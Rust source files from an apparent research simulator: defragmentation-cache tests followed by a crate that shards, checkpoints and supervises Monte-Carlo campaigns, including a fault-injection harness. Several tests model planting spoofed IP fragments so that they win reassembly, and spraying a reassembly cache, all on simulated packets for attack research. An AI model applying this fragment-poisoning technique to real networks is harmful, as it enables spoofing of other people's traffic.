        let out = done.expect("should reassemble");
        assert_eq!(out.payload, p.payload);
        assert_eq!(cache.pending_reassemblies(), 0);
    }

    #[test]
    fn df_packet_refuses_fragmentation() {
        let mut p = pkt(3000, 4);
        p.dont_fragment = true;
        assert!(matches!(fragment(p.clone(), 576), Err(FragmentError::DontFragment { .. })));
    }

    #[test]
    fn mtu_below_68_rejected() {
        let p = pkt(3000, 5);
        assert!(matches!(fragment(p.clone(), 60), Err(FragmentError::MtuTooSmall { .. })));
    }

    #[test]
    fn planted_spoofed_fragment_wins_under_first_wins() {
        // Attack mechanics: plant a spoofed second fragment, then deliver the
        // real fragments. The reassembled payload must contain the spoofed
        // second half.
        let p = pkt(2000, 6);
        let frags = fragment(p.clone(), 1028).unwrap();
        assert_eq!(frags.len(), 2);
        let mut spoofed = frags[1].clone();
        spoofed.payload = Bytes::from(vec![0xEE; spoofed.payload.len()]);

        let mut cache = DefragCache::new(DefragConfig::default());
        assert!(cache.insert(SimTime::ZERO, spoofed.clone()).is_none());
        let out = cache
            .insert(SimTime::from_nanos(1), frags[0].clone())
            .expect("first real fragment completes with planted second");
        assert_eq!(&out.payload[frags[1].payload_offset()..], &spoofed.payload[..]);
        // The real second fragment now opens a fresh (never-completing) entry.
        assert!(cache.insert(SimTime::from_nanos(2), frags[1].clone()).is_none());
        assert_eq!(cache.pending_reassemblies(), 1);
    }

    #[test]
    fn last_wins_policy_lets_real_fragment_replace_spoof() {
        let p = pkt(2000, 7);
        let frags = fragment(p.clone(), 1028).unwrap();
        let mut spoofed = frags[1].clone();
        spoofed.payload = Bytes::from(vec![0xEE; spoofed.payload.len()]);
        let mut cache = DefragCache::new(DefragConfig {
            duplicate_policy: DuplicatePolicy::LastWins,
            ..DefragConfig::default()
        });
        cache.insert(SimTime::ZERO, spoofed.clone());
        cache.insert(SimTime::ZERO, frags[1].clone()); // real second replaces spoof
        let out = cache.insert(SimTime::ZERO, frags[0].clone()).unwrap();
        assert_eq!(out.payload, p.payload);
    }

    #[test]
    fn timeout_expires_planted_fragment() {
        let p = pkt(2000, 8);
        let frags = fragment(p.clone(), 1028).unwrap();
        let mut cache = DefragCache::new(DefragConfig::default());
        cache.insert(SimTime::ZERO, frags[1].clone());
        assert_eq!(cache.pending_reassemblies(), 1);
        // After the 30 s Linux timeout the planted fragment is gone and the
        // first fragment alone cannot complete.
        let late = SimTime::ZERO + SimDuration::from_secs(31);
        assert!(cache.insert(late, frags[0].clone()).is_none());
        assert_eq!(cache.pending_reassemblies(), 1); // only the fresh frag 0
    }

    #[test]
    fn per_pair_cap_enforced() {
        let config = DefragConfig { max_pending_per_pair: 4, ..DefragConfig::default() };
        let mut cache = DefragCache::new(config);
        // Plant 10 second-fragments with distinct IPIDs; only 4 fit.
        let p = pkt(2000, 0);
        let template = fragment(p.clone(), 1028).unwrap()[1].clone();
        for id in 0..10u16 {
            let mut f = template.clone();
            f.id = id;
            cache.insert(SimTime::ZERO, f.clone());
        }
        assert_eq!(cache.pending_for_pair(p.src, p.dst), 4);
        assert_eq!(cache.pending_reassemblies(), 4);
    }

    #[test]
    fn overload_never_exceeds_cap_and_expires_in_creation_order() {
        // The paper's 64-entry Linux cache under a planting spray: pending
        // reassemblies must never exceed the cap, and once the spray stops,
        // entries expire strictly oldest-first.
        let config = DefragConfig { max_pending_per_pair: 64, ..DefragConfig::default() };
        let mut cache = DefragCache::new(config);
        let template = fragment(pkt(2000, 0), 1028).unwrap()[1].clone();
        // 200 planted second-fragments, one per 100 ms, distinct IPIDs.
        for id in 0..200u16 {
            let mut f = template.clone();
            f.id = id;
            let t = SimTime::ZERO + SimDuration::from_millis(u64::from(id) * 100);
            cache.insert(t, f.clone());
            assert!(
                cache.pending_reassemblies() <= 64,
                "cap breached at id {id}: {}",
                cache.pending_reassemblies()
            );
        }
        // Only the first 64 got in (FirstWins cap: later fragments dropped).
        assert_eq!(cache.pending_reassemblies(), 64);
        assert_eq!(cache.pending_for_pair(template.src, template.dst), 64);
        // Advance past the timeout of the first 10 entries only: exactly
        // those must be gone (creation order), the younger 54 retained.
        let cutoff =
            SimTime::ZERO + DefragConfig::default().timeout + SimDuration::from_millis(950);
        cache.expire(cutoff);
        assert_eq!(cache.pending_reassemblies(), 54, "oldest 10 expired first");
        // Expiring far in the future drains everything and the pair debit.
        cache.expire(SimTime::ZERO + SimDuration::from_secs(3600));
        assert_eq!(cache.pending_reassemblies(), 0);
        assert_eq!(cache.pending_for_pair(template.src, template.dst), 0);
    }

    #[test]
    fn ring_skips_entries_completed_before_their_timeout() {
        // Complete a reassembly, then re-plant under the same key: the stale
        // ring marker of the completed entry must not expire the new one
        // prematurely, and the new entry still expires on its own clock.
        let p = pkt(2000, 42);
        let frags = fragment(p.clone(), 1028).unwrap();
        let mut cache = DefragCache::new(DefragConfig::default());
        cache.insert(SimTime::ZERO, frags[1].clone());
        assert!(cache.insert(SimTime::ZERO, frags[0].clone()).is_some(), "completes");
        assert_eq!(cache.pending_reassemblies(), 0);
        // Re-plant the second fragment 10 s later under the same key.
        let t10 = SimTime::ZERO + SimDuration::from_secs(10);
        cache.insert(t10, frags[1].clone());
        assert_eq!(cache.pending_reassemblies(), 1);
        // At t=31 s the ORIGINAL entry would have expired; the re-planted
        // one (created t=10 s) must survive until t=40 s.
        cache.expire(SimTime::ZERO + SimDuration::from_secs(31));
        assert_eq!(cache.pending_reassemblies(), 1, "young entry survives stale marker");
        cache.expire(SimTime::ZERO + SimDuration::from_secs(41));
        assert_eq!(cache.pending_reassemblies(), 0, "young entry expires on its own clock");
    }

    #[test]
    fn reassembled_packet_has_clean_flags() {
        let p = pkt(2500, 9);
        let frags = fragment(p.clone(), 576).unwrap();
        let mut cache = DefragCache::new(DefragConfig::default());
        let mut out = None;
        for f in frags {
            out = cache.insert(SimTime::ZERO, f);
        }
        let out = out.unwrap();
        assert!(!out.is_fragment());
        assert_eq!(out.id, p.id);
        assert_eq!(out.src, p.src);
    }
}
