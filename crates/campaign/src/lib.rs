//! # campaign — sharded, streaming, resumable campaign orchestration
//!
//! The paper's results are Monte-Carlo campaigns; this crate is the layer
//! that runs them at scale, the way Internet-wide scan pipelines do: a
//! coordinator fans deterministic seed-range shards to workers, workers
//! stream newline-delimited JSON records, and the coordinator merges the
//! streams in shard order and aggregates online.
//!
//! * [`registry`] — every reproducible artifact addressable by name
//!   (`table1`, `table2`, `fig5`, `fig6`, `fig7`, `table4_snoop`,
//!   `table5_adstudy`, `ratelimit`, `pmtud`, `chronos_bound`), each with
//!   a typed record [`record::Schema`] and per-trial entry point;
//! * [`exec`] — the shard planner + executor: contiguous index-range
//!   shards ([`runner::shard_range`]) run on in-process threads or as
//!   `campaign worker --shard k/K` child processes;
//! * [`checkpoint`] — per-shard append-only NDJSON checkpoints with
//!   torn-tail recovery: an interrupted campaign resumes at its first
//!   missing record; mid-file corruption quarantines the file and the
//!   shard restarts cleanly;
//! * [`supervisor`] + [`faults`] — self-healing supervision: dead, hung,
//!   or corrupt-stream workers are re-leased from their last good
//!   checkpoint under deterministic backoff, shards that exhaust their
//!   retries are quarantined into a partial summary with a coverage
//!   report, and the deterministic fault injector proves the healed
//!   digest is bit-identical to a fault-free run;
//! * [`error`] — the typed [`error::CampaignError`] taxonomy the
//!   supervisor classifies failures with;
//! * [`metrics`] — the live `metrics.json` sidecar: per-shard progress,
//!   lease states, and incremental estimator snapshots rewritten
//!   atomically each supervision tick, plus the normalized (deterministic)
//!   final snapshot every run writes after its merge;
//! * [`summary`] — the deterministic merge + [`stats`] online aggregation
//!   (Welford moments, P² quantiles, Wilson intervals, and — for declared
//!   histogram fields — fixed-bin streaming histograms plus mergeable rank
//!   sketches) in memory independent of the trial count;
//! * [`digest`] — the FNV-1a stream digest that pins it all down: equal
//!   for any shard count, worker schedule, in-process vs. subprocess
//!   execution, and interrupt + resume.
//!
//! ```
//! use campaign::prelude::*;
//! use timeshift::experiments::Scale;
//!
//! let scenario = campaign::registry::find("chronos_bound").expect("registered");
//! let dir = std::env::temp_dir().join(format!("campaign-doc-{}", std::process::id()));
//! let summary =
//!     run_campaign(&CampaignConfig::in_process(scenario, Scale::quick(), 3, dir.clone()))
//!         .expect("campaign runs");
//! assert_eq!(summary.records, 24);
//! std::fs::remove_dir_all(dir).ok();
//! ```

#![warn(missing_docs)]

pub mod checkpoint;
pub mod digest;
pub mod error;
pub mod exec;
pub mod faults;
pub mod metrics;
pub mod record;
pub mod registry;
pub mod stats;
pub mod summary;
pub mod supervisor;

/// Commonly used types.
pub mod prelude {
    pub use crate::digest::Digest;
    pub use crate::error::CampaignError;
    pub use crate::exec::{run_campaign, CampaignConfig, ExecMode};
    pub use crate::faults::{FaultPlan, FaultSpec};
    pub use crate::metrics::{metrics_path, Estimator, Metrics, ShardMetric};
    pub use crate::record::{Field, FieldKind, HistSpec, Record, Schema, Value};
    pub use crate::registry::{self, Campaign, Scenario};
    pub use crate::stats::{wilson95, Aggregate, P2Quantile, RankSketch, StreamHist, Welford};
    pub use crate::summary::Summary;
    pub use crate::supervisor::{run_supervised, SupervisedRun, SupervisorConfig};
}
