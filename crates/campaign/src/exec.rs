//! The shard planner + executor: splits a campaign's trial index space
//! into K contiguous shards ([`runner::shard_range`]) and runs them either
//! on in-process worker threads or as spawned child processes of the same
//! binary (`campaign worker --shard k/K`), each shard appending its record
//! stream to its own checkpoint file.
//!
//! Both modes produce byte-identical checkpoints: a trial's record is a
//! pure function of `(scenario, scale, master seed, global index)`, and a
//! shard's file is its records in index order. Subprocess workers
//! additionally stream every record line over their stdout pipe, which
//! the coordinator drains for live progress (the checkpoint file stays
//! the durable copy the merge reads).
//!
//! Resume: before running anything the executor recovers every shard
//! checkpoint ([`checkpoint::recover`]) and restarts each shard at its
//! first missing index — an interrupted campaign continues where it
//! stopped and ends with the same digest as an uninterrupted one. A
//! checkpoint with mid-file corruption is quarantined (renamed aside) and
//! its shard restarts at record 0; the rest of the resume is kept.
//!
//! This module is the *fail-fast* executor: any worker failure aborts the
//! run (after killing the other children). [`crate::supervisor`] wraps
//! the same spawn/drain machinery in a lease loop that retries and
//! quarantines instead.

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use runner::{shard_range, TrialRunner};
use timeshift::experiments::Scale;

use crate::checkpoint::{self, Appender};
use crate::error::CampaignError;
use crate::faults::{FaultSpec, GARBAGE_LINE, TORN_BYTES};
use crate::metrics::Metrics;
use crate::record::{decode_line, encode_line, Schema};
use crate::registry::Scenario;
use crate::summary::{self, Summary};

/// How shards execute.
#[derive(Debug, Clone)]
pub enum ExecMode {
    /// Shard workers are scoped threads in this process.
    InProcess,
    /// Shard workers are child processes running `<exe> worker …`.
    /// The binary at `exe` must be the `campaign` CLI (tests pass
    /// `env!("CARGO_BIN_EXE_campaign")`, the CLI passes itself).
    Subprocess {
        /// Path to the `campaign` binary.
        exe: PathBuf,
    },
}

/// A fully-specified campaign run.
#[derive(Debug, Clone)]
pub struct CampaignConfig {
    /// The registered scenario to run.
    pub scenario: &'static Scenario,
    /// Population sizing + master seed (`scale.seed`).
    pub scale: Scale,
    /// Label recorded in the summary ("quick" / "paper" / "custom").
    pub scale_label: String,
    /// Shard count K (0 is clamped to 1).
    pub shards: usize,
    /// Max shards in flight at once (0 is clamped to 1).
    pub workers: usize,
    /// Execution mode.
    pub mode: ExecMode,
    /// Campaign directory (checkpoints + summary).
    pub dir: PathBuf,
    /// Print per-shard progress to stderr.
    pub verbose: bool,
}

impl CampaignConfig {
    /// A quiet in-process config with `shards` == `workers` — what the
    /// tests and the example use.
    pub fn in_process(
        scenario: &'static Scenario,
        scale: Scale,
        shards: usize,
        dir: PathBuf,
    ) -> Self {
        CampaignConfig {
            scenario,
            scale,
            scale_label: "custom".into(),
            shards,
            workers: shards,
            mode: ExecMode::InProcess,
            dir,
            verbose: false,
        }
    }
}

/// A planned-but-unfinished shard: index, global range, records already
/// checkpointed.
pub(crate) type PendingShard = (usize, std::ops::Range<usize>, usize);

/// Plans the shard ranges and recovers every checkpoint (quarantining
/// corrupt ones), returning `(all ranges, pending shards)`.
pub(crate) fn plan_and_recover(
    config: &CampaignConfig,
    shards: usize,
    total: usize,
) -> Result<(Vec<std::ops::Range<usize>>, Vec<PendingShard>), CampaignError> {
    let ranges: Vec<_> = (0..shards).map(|k| shard_range(total, k, shards)).collect();
    let mut pending: Vec<PendingShard> = Vec::new();
    for (k, range) in ranges.iter().enumerate() {
        let planned = range.end - range.start;
        let recovery =
            checkpoint::recover(&checkpoint::shard_path(&config.dir, k), config.scenario.schema)?;
        if let checkpoint::Recovery::Quarantined { quarantined_to, line } = &recovery {
            if config.verbose {
                obs::console!(
                    "shard {k}: checkpoint corrupt at line {line}; quarantined to {} — \
                     restarting shard from record 0",
                    quarantined_to.display()
                );
            }
        }
        let done = recovery.records();
        if done > planned {
            return Err(CampaignError::StaleCheckpoint { shard: k, have: done, planned });
        }
        if done < planned {
            if config.verbose && done > 0 {
                obs::console!("shard {k}: resuming at record {done}/{planned}");
            }
            pending.push((k, range.clone(), done));
        }
    }
    Ok((ranges, pending))
}

/// Creates the campaign directory and verifies (or writes) its manifest.
pub(crate) fn prepare_dir(config: &CampaignConfig, shards: usize) -> Result<(), CampaignError> {
    std::fs::create_dir_all(&config.dir)
        .map_err(|e| CampaignError::io(format!("create {}", config.dir.display()), e))?;
    // A checkpoint is only a resumable prefix of THIS campaign: refuse the
    // directory if its manifest names a different scenario, scale, seed or
    // shard plan (shard files would otherwise be silently reinterpreted
    // under the new plan, duplicating and dropping records).
    checkpoint::check_manifest(
        &config.dir,
        config.scenario.name,
        &scale_spec(&config.scale),
        shards,
    )
}

/// Runs (or resumes) a campaign end to end: plan shards, recover
/// checkpoints, execute unfinished shards, then merge + aggregate into a
/// [`Summary`] (also written as `summary.json` in the campaign dir).
///
/// # Errors
///
/// Planning, I/O, worker, or merge failures.
pub fn run_campaign(config: &CampaignConfig) -> Result<Summary, CampaignError> {
    let shards = config.shards.max(1);
    prepare_dir(config, shards)?;
    let built = config.scenario.build(config.scale);
    let total = built.trials();
    let (ranges, pending) = plan_and_recover(config, shards, total)?;

    match &config.mode {
        ExecMode::InProcess => {
            // One population build shared by every shard thread.
            let campaign = &*built;
            let results = TrialRunner::new(config.workers.max(1)).run(
                &pending,
                |_, (k, range, done)| -> Result<(), CampaignError> {
                    run_shard_in_process(config, campaign, *k, range.clone(), *done)
                },
            );
            for r in results {
                r?;
            }
        }
        ExecMode::Subprocess { exe } => {
            run_subprocess_shards(config, exe, shards, &pending)?;
        }
    }

    let summary = summary::merge(
        config.scenario,
        &config.scale_label,
        config.scale.seed,
        &config.dir,
        &ranges,
    )?;
    // The normalized final metrics snapshot: built purely from the merged
    // summary, so it is bit-identical for any worker count or exec mode.
    Metrics::final_snapshot(&summary).write(&config.dir)?;
    Ok(summary)
}

/// One in-flight subprocess worker: shard index, records expected from
/// its stream, the child process, and its stdout drain thread.
type ActiveWorker =
    (usize, usize, std::process::Child, std::thread::JoinHandle<Result<usize, CampaignError>>);

/// Runs the pending shards as `campaign worker` children, keeping up to
/// `workers` in flight and backfilling each freed slot immediately (no
/// wave barriers — resume makes shard sizes uneven, and a nearly-empty
/// shard must not hold a slot hostage). Each child's stdout is drained on
/// its own thread so no worker ever stalls on a full pipe. On any
/// failure, every still-running child is killed and reaped before the
/// error returns — an orphan worker appending to a checkpoint that a
/// rerun will also write would interleave two record streams.
fn run_subprocess_shards(
    config: &CampaignConfig,
    exe: &Path,
    shards: usize,
    pending: &[PendingShard],
) -> Result<(), CampaignError> {
    let workers = config.workers.max(1);
    let mut queue = pending.iter();
    let mut active: Vec<ActiveWorker> = Vec::new();
    let mut first_err: Option<CampaignError> = None;
    loop {
        if let Some(e) = first_err.take() {
            for (_, _, mut child, drain) in active.drain(..) {
                let _ = child.kill();
                let _ = child.wait();
                let _ = drain.join();
            }
            return Err(e);
        }
        // Keep the slots full.
        while active.len() < workers {
            let Some((k, range, done)) = queue.next() else { break };
            let expected = range.end - range.start - done;
            match spawn_worker(config, exe, *k, shards, *done, None) {
                Ok(mut child) => match child.stdout.take() {
                    Some(stdout) => {
                        let (k, verbose) = (*k, config.verbose);
                        let drain = std::thread::spawn(move || {
                            drain_stream(stdout, k, expected, verbose, None)
                        });
                        active.push((k, expected, child, drain));
                    }
                    None => {
                        let _ = child.kill();
                        let _ = child.wait();
                        first_err = Some(CampaignError::WorkerSpawn {
                            shard: *k,
                            detail: "no stdout pipe".into(),
                        });
                    }
                },
                Err(e) => first_err = Some(e),
            }
            if first_err.is_some() {
                break;
            }
        }
        if first_err.is_some() {
            continue; // kill + return above
        }
        if active.is_empty() {
            return Ok(());
        }
        // Reap the next finished worker: its drain thread ends at stream
        // EOF, i.e. when the child exits.
        if let Some(i) = active.iter().position(|(_, _, _, drain)| drain.is_finished()) {
            let (k, expected, mut child, drain) = active.swap_remove(i);
            let outcome = (|| {
                let streamed = drain.join().map_err(|_| {
                    CampaignError::Internal(format!("shard {k}: drain thread panicked"))
                })??;
                let status = child
                    .wait()
                    .map_err(|e| CampaignError::io(format!("wait for shard {k} worker"), e))?;
                if !status.success() {
                    return Err(CampaignError::WorkerExit { shard: k, status: status.to_string() });
                }
                if streamed != expected {
                    return Err(CampaignError::WorkerStream {
                        shard: k,
                        detail: format!("streamed {streamed} records, expected {expected}"),
                    });
                }
                Ok(())
            })();
            if let Err(e) = outcome {
                first_err = Some(e);
            }
        } else {
            std::thread::sleep(std::time::Duration::from_millis(5));
        }
    }
}

fn run_shard_in_process(
    config: &CampaignConfig,
    campaign: &dyn crate::registry::Campaign,
    k: usize,
    range: std::ops::Range<usize>,
    done: usize,
) -> Result<(), CampaignError> {
    let mut out = Appender::open(&checkpoint::shard_path(&config.dir, k))?;
    for idx in range.start + done..range.end {
        let record = campaign.run_trial(idx);
        out.append_line(&encode_line(config.scenario.schema, &record))?;
    }
    if config.verbose {
        obs::console!("shard {k}: complete ({} records)", range.end - range.start);
    }
    Ok(())
}

/// Spawns one `campaign worker` child for shard `k`, optionally carrying
/// a `--fault` injection flag (the supervisor's chaos harness).
pub(crate) fn spawn_worker(
    config: &CampaignConfig,
    exe: &Path,
    k: usize,
    shards: usize,
    skip: usize,
    fault: Option<FaultSpec>,
) -> Result<std::process::Child, CampaignError> {
    let mut cmd = Command::new(exe);
    cmd.arg("worker")
        .arg("--scenario")
        .arg(config.scenario.name)
        .arg("--shard")
        .arg(format!("{k}/{shards}"))
        .arg("--skip")
        .arg(skip.to_string())
        .arg("--checkpoint")
        .arg(checkpoint::shard_path(&config.dir, k))
        .arg("--scale-spec")
        .arg(scale_spec(&config.scale));
    if let Some(fault) = fault {
        cmd.arg("--fault").arg(fault.render());
    }
    cmd.stdin(Stdio::null())
        .stdout(Stdio::piped())
        .spawn()
        .map_err(|e| CampaignError::WorkerSpawn { shard: k, detail: e.to_string() })
}

/// Drains a worker's stdout record stream, counting lines (the live
/// progress channel — the durable copy is the checkpoint file). Runs on
/// its own thread per child so no worker blocks on a full pipe.
///
/// With `validate` set, every line is decoded against the schema and the
/// drain ends early on the first corrupt line — the supervisor's
/// corrupt-stream detector. (The plain executor skips validation here
/// because the merge pass decodes every checkpointed record anyway.)
pub(crate) fn drain_stream(
    stdout: std::process::ChildStdout,
    k: usize,
    expected: usize,
    verbose: bool,
    validate: Option<&'static Schema>,
) -> Result<usize, CampaignError> {
    let reader = BufReader::new(stdout);
    let mut streamed = 0usize;
    let tick = (expected / 4).max(1);
    for line in reader.lines() {
        let line =
            line.map_err(|e| CampaignError::io(format!("read shard {k} worker stream"), e))?;
        if let Some(schema) = validate {
            if let Err(e) = decode_line(schema, &line) {
                return Err(CampaignError::WorkerStream {
                    shard: k,
                    detail: format!("corrupt record {} on stdout: {e}", streamed + 1),
                });
            }
        }
        streamed += 1;
        if verbose && streamed.is_multiple_of(tick) {
            obs::console!("shard {k}: {streamed}/{expected} records streamed");
        }
    }
    Ok(streamed)
}

/// The worker-process entry point: runs shard `k` of `shards`, skipping
/// the first `skip` already-checkpointed trials, appending each record to
/// `checkpoint` and echoing it on stdout (the coordinator's stream).
///
/// `fault` deterministically injects one failure mode (see
/// [`crate::faults`]) — the supervision chaos harness. `None` in
/// production.
///
/// # Errors
///
/// Unknown scenario, bad shard spec, or I/O failures.
pub fn run_worker(
    scenario: &'static Scenario,
    scale: Scale,
    k: usize,
    shards: usize,
    skip: usize,
    checkpoint_path: &Path,
    fault: Option<FaultSpec>,
) -> Result<(), CampaignError> {
    if k >= shards {
        return Err(CampaignError::BadSpec(format!("shard {k}/{shards} out of range")));
    }
    if let Some(FaultSpec::Exit(code)) = fault {
        std::process::exit(code);
    }
    let campaign = scenario.build(scale);
    let range = shard_range(campaign.trials(), k, shards);
    if range.start + skip > range.end {
        return Err(CampaignError::BadSpec(format!("skip {skip} exceeds shard range {range:?}")));
    }
    let mut out = Appender::open(checkpoint_path)?;
    let stdout = std::io::stdout();
    for (written, idx) in (range.start + skip..range.end).enumerate() {
        // `written` counts records completed by THIS invocation — the
        // fault counters are relative to it, so a re-injected fault fires
        // at a well-defined point of a resumed stream too.
        inject_pre_record(fault, written, checkpoint_path, &mut out)?;
        let line = encode_line(scenario.schema, &campaign.run_trial(idx));
        out.append_line(&line)?;
        use std::io::Write as _;
        let mut lock = stdout.lock();
        lock.write_all(line.as_bytes())
            .and_then(|()| lock.write_all(b"\n"))
            .and_then(|()| lock.flush())
            .map_err(|e| CampaignError::io("stream record", e))?;
    }
    Ok(())
}

/// Fires any fault scheduled for the point just before the
/// `written + 1`-th record of this invocation. Crash/stall/torn-write
/// never return; garbage-record emits its line and lets the worker
/// continue.
fn inject_pre_record(
    fault: Option<FaultSpec>,
    written: usize,
    checkpoint_path: &Path,
    out: &mut Appender,
) -> Result<(), CampaignError> {
    match fault {
        Some(FaultSpec::CrashAfter(k)) if written == k => std::process::exit(101),
        Some(FaultSpec::StallAfter(k)) if written == k => loop {
            // Hold the process alive without progress: the supervisor's
            // stall timeout is the only way out.
            std::thread::sleep(std::time::Duration::from_secs(3600));
        },
        Some(FaultSpec::TornWrite(k)) if written == k => {
            // Exactly what a kill mid-`append_line` leaves behind: a
            // flushed half-record with no newline.
            use std::io::Write as _;
            let mut f = std::fs::OpenOptions::new()
                .append(true)
                .open(checkpoint_path)
                .map_err(|e| CampaignError::io("open checkpoint for torn write", e))?;
            f.write_all(TORN_BYTES).map_err(|e| CampaignError::io("torn write", e))?;
            f.flush().map_err(|e| CampaignError::io("torn write flush", e))?;
            std::process::exit(103);
        }
        Some(FaultSpec::GarbageRecord(k)) if written == k => {
            // A complete but schema-invalid line, on both channels the
            // coordinator watches: the checkpoint and the stdout stream.
            out.append_line(GARBAGE_LINE)?;
            use std::io::Write as _;
            let stdout = std::io::stdout();
            let mut lock = stdout.lock();
            lock.write_all(GARBAGE_LINE.as_bytes())
                .and_then(|()| lock.write_all(b"\n"))
                .and_then(|()| lock.flush())
                .map_err(|e| CampaignError::io("stream garbage record", e))?;
            Ok(())
        }
        _ => Ok(()),
    }
}

/// Parses a `--scale-spec` string
/// (`resolvers,domains,ad_fraction,shared,pool_servers,workers,seed`) —
/// the coordinator↔worker wire form of [`Scale`]. `ad_fraction` uses
/// Rust's shortest round-trip float formatting, so the worker reconstructs
/// the coordinator's scale bit-for-bit.
///
/// # Errors
///
/// Malformed spec.
pub fn parse_scale_spec(spec: &str) -> Result<Scale, CampaignError> {
    let parts: Vec<&str> = spec.split(',').collect();
    if parts.len() != 7 {
        return Err(CampaignError::BadSpec(format!(
            "scale spec needs 7 fields, got {}",
            parts.len()
        )));
    }
    let err = |field: &str, e: String| CampaignError::BadSpec(format!("scale spec {field}: {e}"));
    Ok(Scale {
        resolvers: parts[0]
            .parse()
            .map_err(|e: std::num::ParseIntError| err("resolvers", e.to_string()))?,
        domains: parts[1]
            .parse()
            .map_err(|e: std::num::ParseIntError| err("domains", e.to_string()))?,
        ad_fraction: parts[2]
            .parse()
            .map_err(|e: std::num::ParseFloatError| err("ad_fraction", e.to_string()))?,
        shared: parts[3]
            .parse()
            .map_err(|e: std::num::ParseIntError| err("shared", e.to_string()))?,
        pool_servers: parts[4]
            .parse()
            .map_err(|e: std::num::ParseIntError| err("pool_servers", e.to_string()))?,
        workers: parts[5]
            .parse()
            .map_err(|e: std::num::ParseIntError| err("workers", e.to_string()))?,
        seed: parts[6].parse().map_err(|e: std::num::ParseIntError| err("seed", e.to_string()))?,
    })
}

/// Renders the `--scale-spec` wire form of a [`Scale`].
pub fn scale_spec(s: &Scale) -> String {
    format!(
        "{},{},{},{},{},{},{}",
        s.resolvers, s.domains, s.ad_fraction, s.shared, s.pool_servers, s.workers, s.seed
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scale_spec_round_trips() {
        let scale = Scale { ad_fraction: 0.030_000_000_000_000_2, ..Scale::quick() };
        let back = parse_scale_spec(&scale_spec(&scale)).expect("parses");
        assert_eq!(back.resolvers, scale.resolvers);
        assert_eq!(back.ad_fraction.to_bits(), scale.ad_fraction.to_bits());
        assert_eq!(back.seed, scale.seed);
    }

    #[test]
    fn scale_spec_rejects_malformed_input() {
        assert!(parse_scale_spec("1,2,3").is_err());
        assert!(parse_scale_spec("a,2,0.5,4,5,6,7").is_err());
    }
}
