//! Self-healing campaign supervision: the lease-based coordinator that
//! keeps a sharded run alive through worker failures.
//!
//! [`run_supervised`] owns a pool of `campaign worker` subprocesses. Each
//! pending shard is **leased** to a worker; the supervisor watches three
//! failure channels:
//!
//! * **exit** — the worker terminated with a nonzero status (crash,
//!   injected `exit=N`, kill signal);
//! * **stream** — the worker's NDJSON stdout carried a schema-invalid
//!   record, or ended with fewer records than the lease expected;
//! * **stall** — the worker's checkpoint file stopped growing for a full
//!   stall timeout (hung trial, deadlock, injected `stall-after=K`).
//!
//! A failed lease is **re-leased from its last good checkpoint**: the
//! checkpoint is recovered first ([`checkpoint::recover`] truncates a
//! torn tail; mid-file corruption quarantines the file and restarts the
//! shard at record 0), so the retried worker resumes at the first missing
//! record and the merged stream stays bit-identical to a fault-free run —
//! trials are pure functions of `(scenario, scale, master seed, global
//! index)`, so *who* computes a record never changes *what* it is.
//!
//! Retries are bounded (`max_retries`) and spaced by deterministic
//! exponential backoff with seeded jitter — see [`backoff_ticks`]. A
//! shard that exhausts its budget is **quarantined**: the run keeps going
//! and degrades into a *partial* summary whose coverage report names the
//! missing shards, their attempt counts, and their final failures
//! ([`summary::merge_with_quarantine`]).
//!
//! ## Observability
//!
//! Each supervised shard gets a fixed-capacity [`obs::FlightRecorder`]
//! ring of supervision events (lease granted, crash/stall/corrupt-stream
//! failures, quarantine, heal), dumped to
//! [`SupervisorConfig::trace_dir`]`/shard-K.trace` at the end of the run.
//! The loop also rewrites a `metrics.json` sidecar ([`crate::metrics`])
//! atomically every poll tick: per-shard records on disk, lease states,
//! attempt counts, the tick-based record rate, and incremental estimator
//! snapshots folded from the checkpoints' appended bytes.
//!
//! ## No wall clock
//!
//! The workspace bans `Instant::now`/`SystemTime::now` outside the bench
//! crate (simlint R3) — timing reads are where nondeterminism leaks in.
//! The supervisor therefore measures time in **ticks**: one poll-loop
//! iteration (one `poll_interval_ms` sleep) is one tick, timeouts and
//! backoff are tick counts, and no code path ever reads a clock. Ticks
//! only pace the supervision loop; results never depend on them.

use std::path::Path;

use runner::mix64;

use crate::checkpoint;
use crate::error::CampaignError;
use crate::exec::{self, CampaignConfig};
use crate::faults::FaultPlan;
use crate::metrics::{self, Metrics, ShardMetric};
use crate::record::{decode_line, Schema};
use crate::stats::Aggregate;
use crate::summary::{self, QuarantinedShard, Summary};

/// Capacity of each shard's supervision flight-recorder ring. Supervision
/// stories are short (a handful of lease/failure events per shard), so a
/// small fixed ring retains every event in practice while bounding memory
/// for pathological retry storms.
const SUPERVISION_RING_CAPACITY: usize = 256;

/// Supervision policy: retry budget, stall timeout, backoff schedule,
/// and the (normally empty) fault-injection plan.
#[derive(Debug, Clone)]
pub struct SupervisorConfig {
    /// Retries allowed per shard *after* its first lease. A shard may
    /// consume `max_retries + 1` worker spawns before quarantine.
    pub max_retries: usize,
    /// Stall timeout in milliseconds: a lease whose checkpoint makes no
    /// progress for this long is killed and counted failed. Converted to
    /// ticks by rounding up to whole poll intervals.
    pub worker_timeout_ms: u64,
    /// Poll-loop tick length in milliseconds (the supervision clock's
    /// granularity).
    pub poll_interval_ms: u64,
    /// Backoff base, in ticks: retry `a` waits
    /// `min(base << (a-1), cap) + jitter` ticks.
    pub backoff_base_ticks: u64,
    /// Backoff cap, in ticks.
    pub backoff_cap_ticks: u64,
    /// Deterministic fault injections (chaos harness). Empty in
    /// production.
    pub faults: FaultPlan,
    /// Where to dump each shard's supervision flight-recorder ring
    /// (`shard-K.trace`, one per supervised shard) when the run ends —
    /// the post-mortem channel for quarantined shards. `None` disables
    /// dumping (the rings still record).
    pub trace_dir: Option<std::path::PathBuf>,
}

impl Default for SupervisorConfig {
    fn default() -> Self {
        SupervisorConfig {
            max_retries: 2,
            worker_timeout_ms: 2000,
            poll_interval_ms: 20,
            backoff_base_ticks: 2,
            backoff_cap_ticks: 16,
            faults: FaultPlan::none(),
            trace_dir: None,
        }
    }
}

impl SupervisorConfig {
    /// The stall timeout in whole ticks (at least 1).
    fn timeout_ticks(&self) -> u64 {
        self.worker_timeout_ms.div_ceil(self.poll_interval_ms.max(1)).max(1)
    }
}

/// The deterministic backoff delay, in ticks, before retry `attempt`
/// (1-based) of `shard`: truncated exponential growth plus seeded jitter.
/// The jitter decorrelates shards that died together (so their retries
/// don't re-stampede a shared bottleneck) while staying a pure function
/// of `(master seed, shard, attempt)` — reruns back off identically.
